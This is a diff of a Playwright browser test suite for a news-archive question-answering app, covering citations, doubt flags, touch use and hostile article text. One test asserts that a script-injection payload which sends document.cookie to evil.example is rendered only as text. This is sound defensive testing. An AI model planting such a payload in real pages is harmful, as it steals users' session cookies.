@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
-from datetime import date
-from typing import TYPE_CHECKING
 from urllib.parse import urlsplit
 
 import pytest
-from scripted import GRAIN_QUOTE, HOSTILE_SEEN, LONG_WORD, RATES_QUOTE, ScriptedDesk
-
-if TYPE_CHECKING:
-    from playwright.sync_api import Page
+from chatting import GRAIN, RATES, Reader, ask, in_view, mark, overflow
+from scripted import (
+    GRAIN_QUOTE,
+    HOSTILE_SEEN,
+    LONG_WORD,
+    RATES_QUOTE,
+    TURKEY_QUOTE,
+    WORST_HITS,
+    ScriptedDesk,
+)
 
 pytestmark = [
     pytest.mark.browser,
@@ -20,35 +23,7 @@ pytestmark = [
     pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
 ]
 
-GRAIN = "Who brokered the grain deal?"
-RATES = "And what did the central bank do?"
-Reader = Callable[..., "Page"]
-
-
-def ask(page: Page, question: str, *, turn: int = 1, ends: str = "answered") -> None:
-    box = page.get_by_label("Your question")
-    box.fill(question)
-    # An answer stands on the page a moment before Gradio takes another question; until then Enter does nothing.
-    for _ in range(20):
-        box.press("Enter")
-        page.wait_for_timeout(400)
-        if page.locator(f"#turn-{turn}").count():
-            break
-    page.locator(f"#turn-{turn}.{ends}").wait_for()
-
-
-def mark(page: Page, turn: int, number: int, nth: int = 0):
-    return page.locator(f"#turn-{turn} a.cite[data-number='{number}']").nth(nth)
-
-
-def in_view(page: Page, selector: str) -> bool:
-    return page.locator(selector).evaluate(
-        "e => { const r = e.getBoundingClientRect(); return r.top >= 0 && r.top < innerHeight && r.height > 0 }"
-    )
-
-
-def overflow(page: Page) -> int:
-    return page.evaluate("document.documentElement.scrollWidth - innerWidth")
+OUTLETS = {"brinmoorherald.example", "lowmarshecho.example", "tidewaternews.example"}
 
 
 def test_the_header_says_what_the_archive_holds_who_writes_and_what_leaves(reader: Reader):
@@ -130,16 +105,97 @@ def test_a_follow_up_is_asked_with_what_came_before_it(reader: Reader, desk: Scr
     assert "Searched as: What did the European Central Bank do" in page.locator("#turn-2 .chips").inner_text()
 
 
+def test_quotations_behind_an_answer_stand_apart_each_with_its_outlet_and_day(reader: Reader):
+    page = reader()
+    ask(page, GRAIN)
+    assert page.locator("#turn-1 .quotations").count() == 0
+    ask(page, RATES, turn=2)
+    paragraph = page.locator("#turn-2 .quotations")
+    assert paragraph.inner_text().split("\n")[0] == "In the articles' words:"
+    own, quoted = page.locator("#turn-2 .sentence").all()
+    assert quoted.inner_text().split("\n") == [f"{TURKEY_QUOTE}\u202f[2]", "The Guardian, 8 Jun 2022"]
+    assert own.locator(".attribution").count() == 0
+    end = own.bounding_box()["y"] + own.bounding_box()["height"]
+    assert end < paragraph.locator(".lead").bounding_box()["y"] < quoted.bounding_box()["y"]
+    assert quoted.evaluate("e => getComputedStyle(e).borderInlineStartStyle") == "solid"
+    quoted.locator("a.cite").click()
+    assert in_view(page, "#src-2-2")
+
+
 def test_sentences_that_are_not_borne_out_are_marked_and_say_why(reader: Reader):
     page = reader()
     ask(page, GRAIN)
     sentences = page.locator("#turn-1 .sentence")
     assert "doubtful" not in sentences.nth(0).get_attribute("class").split()
-    assert "25 million is not in" in sentences.nth(1).get_attribute("title")
     styles = sentences.locator(".words").evaluate_all("all => all.map(e => getComputedStyle(e).borderBottomStyle)")
     assert [style == "dotted" for style in styles] == [False, True, True]
     page.get_by_text("2 of 3 sentences are not fully borne out").click()
-    assert page.get_by_text("the number 25 million is not in [1] or [2]").is_visible()
+    assert page.locator(".doubts").get_by_text("the number 25 million is not in [1] or [2]").is_visible()
+
+
+def test_a_doubtful_sentence_says_why_when_pointed_at_focused_or_tapped_and_stops_saying_it(reader: Reader):
+    page = reader()
+    ask(page, GRAIN)
+    problem, flag = page.locator("#problem-1-1"), page.locator("#turn-1 .flag").first
+    assert flag.inner_text() == "partly borne out"
+    assert not problem.is_visible()
+    page.locator("#turn-1 .sentence").nth(1).locator(".words").hover()
+    assert problem.is_visible()
+    assert problem.inner_text() == "Only partly supported by what it cites: the number 25 million is not in [1] or [2]"
+    problem.hover()
+    assert problem.is_visible()
+    page.locator("#turn-1 .question").hover()
+    assert not problem.is_visible()
+    flag.focus()
+    assert problem.is_visible()
+    assert flag.get_attribute("aria-expanded") == "true"
+    page.keyboard.press("Escape")
+    assert not problem.is_visible()
+    assert flag.get_attribute("aria-expanded") == "false"
+
+
+def test_a_tap_on_a_phone_says_why_within_the_window(reader: Reader):
+    page = reader(360, 740, touch=True)
+    ask(page, GRAIN)
+    flag = page.locator("#turn-1 .flag").first
+    flag.scroll_into_view_if_needed()
+    page.wait_for_timeout(200)
+    flag.tap()
+    box = page.locator("#problem-1-1").bounding_box()
+    assert page.locator("#problem-1-1").is_visible()
+    assert box["x"] >= 0
+    assert box["x"] + box["width"] <= 360
+    page.locator("#turn-1 .question").tap()
+    assert not page.locator("#problem-1-1").is_visible()
+
+
+def test_marks_and_cards_work_by_touch(reader: Reader):
+    page = reader(390, 844, touch=True)
+    ask(page, GRAIN)
+    mark(page, 1, 2).tap()
+    page.wait_for_function("document.querySelector('#src-1-2').getBoundingClientRect().top < innerHeight - 200")
+    assert page.locator(".card.lit").count() == 1
+    page.locator("#src-1-1 h4").tap()
+    assert page.locator("a.cite.lit").first.get_attribute("data-number") == "1"
+
+
+def test_nothing_above_the_last_words_moves_while_an_answer_is_written(reader: Reader):
+    page = reader()
+    page.evaluate(
+        """() => {
+            window.shifts = 0;
+            new PerformanceObserver((list) => {
+                for (const shift of list.getEntries()) if (!shift.hadRecentInput) window.shifts += shift.value;
+            }).observe({type: 'layout-shift', buffered: false});
+        }"""
+    )
+    box = page.get_by_label("Your question")
+    box.fill(GRAIN)
+    box.press("Enter")
+    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('Turkey')")
+    page.evaluate("window.shifts = 0")
+    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('blocked in')")
+    assert page.evaluate("window.shifts") < 0.05
 
 
 def test_only_cited_sources_stand_open(reader: Reader):
@@ -161,6 +217,35 @@ def test_hostile_text_is_text_and_nothing_leaves_the_machine(reader: Reader, req
     assert shown.locator("img, script, iframe, [onerror], a[href^='javascript']").count() == 0
     page.locator("#src-1-1 mark").click()
     assert requested
+    assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}
+
+
+def test_the_worst_of_the_attacks_are_text_and_nothing_leaves_the_machine(reader: Reader, requested: list[str]):
+    page = reader()
+    ask(page, "What do the worst articles say?")
+    shown = page.locator("#conversation, #panel")
+    assert page.locator("#panel .card").count() == len(WORST_HITS)
+    assert shown.locator("img, script, style, svg, iframe, object, embed, link, meta, form, video, audio").count() == 0
+    ours = page.locator(".turn, .sources")  # around them, Gradio's own elements have styles
+    assert ours.locator("[style], [src], [onload], [onerror], [onclick], [onmouseover], [onfocus]").count() == 0
+    links = shown.locator("a").evaluate_all("links => links.map(link => link.href)")
+    assert {urlsplit(link).hostname for link in links} <= {"127.0.0.1", *OUTLETS}
+    assert "<script>fetch('https://evil.example/'+document.cookie)</script>" in page.locator("#turn-1").inner_text()
+    page.locator("#panel mark").first.click()
+    page.wait_for_timeout(300)
+    assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}
+
+
+def test_a_hostile_article_opened_is_text(reader: Reader, requested: list[str]):
+    page = reader()
+    ask(page, "What does the hostile article say?")
+    page.locator("#src-1-1 [data-act=read]").click()
+    dialog = page.get_by_role("dialog")
+    dialog.wait_for()
+    assert dialog.locator("mark").inner_text() == HOSTILE_SEEN
+    assert dialog.get_by_role("heading").inner_text() == "<b>Free</b> money"
+    assert dialog.locator("img, script, iframe, a, [onerror], b, i").count() == 0
+    page.wait_for_timeout(300)
     assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}
 
 
@@ -217,28 +302,6 @@ def test_a_new_conversation_in_the_middle_of_an_answer_stays_empty(reader: Reade
     page.wait_for_timeout(500)
     assert page.locator(".turn").count() == 0
     ask(page, RATES)
-
-
-def test_as_of_reaches_the_desk_and_ages_count_from_it(reader: Reader, desk: ScriptedDesk):
-    page = reader()
-    page.get_by_label("As of").fill("2022-07-23")
-    ask(page, GRAIN)
-    assert desk.asked[-1][1] == date(2022, 7, 23)
-    assert "1 day before the question’s date" in page.locator("#src-1-1").inner_text()
-    assert "As of 23 Jul 2022" in page.locator("#turn-1 .chips").inner_text()
-
-
-@pytest.mark.parametrize("wrong", ["yesterday", "2022-02-30", "23/07/2022"])
-def test_a_wrong_date_is_said_and_the_question_is_kept(reader: Reader, desk: ScriptedDesk, wrong: str):
-    page = reader()
-    before = len(desk.asked)
-    page.get_by_label("As of").fill(wrong)
-    box = page.get_by_label("Your question")
-    box.fill(GRAIN)
-    box.press("Enter")
-    page.get_by_role("alert").get_by_text(f"“{wrong}” is no date").wait_for()
-    assert box.input_value() == GRAIN
-    assert len(desk.asked) == before
 
 
 def test_two_readers_share_nothing(reader: Reader, desk: ScriptedDesk):
